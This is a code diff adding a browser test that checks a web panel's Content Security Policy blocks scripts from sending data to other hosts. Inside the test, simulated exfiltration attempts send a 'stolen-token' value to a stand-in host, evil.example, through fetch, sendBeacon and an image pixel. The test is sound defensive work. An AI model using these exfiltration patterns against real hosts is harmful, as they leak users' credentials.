@@ -25,4 +25,47 @@ describe('the built panel on the real server', () => {
     expect(problems).toEqual([]);
     await context.close();
   });
+
+  it('lets no script in the panel send data to another host (Content Security Policy)', async () => {
+    const { page, context } = await openPage(browser);
+    const outside: string[] = [];
+    // Chromium offline: any request that did leave would be answered here and counted.
+    await context.route(/^https?:\/\/(?!127\.0\.0\.1[:/])/, (route) => {
+      outside.push(route.request().url());
+      return route.fulfill({ status: 204, body: '' });
+    });
+    const response = await page.goto(`${panelUrl()}/`);
+    const policy = response?.headers()['content-security-policy'] ?? '';
+    expect(policy).toContain(`connect-src 'self' ${new URL(apiUrl()).origin};`);
+    const attempts = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) =>
+        violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
+      );
+      const token = 'stolen-token';
+      const fetched = await fetch(`https://evil.example/steal?t=${token}`).then(
+        () => 'sent',
+        () => 'blocked',
+      );
+      const beacon = navigator.sendBeacon(`https://evil.example/beacon?t=${token}`, token);
+      const image = await new Promise<string>((resolve) => {
+        const img = new Image();
+        img.onload = () => resolve('sent');
+        img.onerror = () => resolve('blocked');
+        img.src = `https://evil.example/pixel.png?t=${token}`;
+      });
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      return { fetched, beacon, image, violations: violations.sort() };
+    });
+    expect(attempts.fetched).toBe('blocked');
+    expect(attempts.image).toBe('blocked');
+    expect(attempts.violations).toEqual(
+      expect.arrayContaining([
+        'connect-src https://evil.example/steal?t=stolen-token',
+        'img-src https://evil.example/pixel.png?t=stolen-token',
+      ]),
+    );
+    expect(outside).toEqual([]);
+    await context.close();
+  });
 });
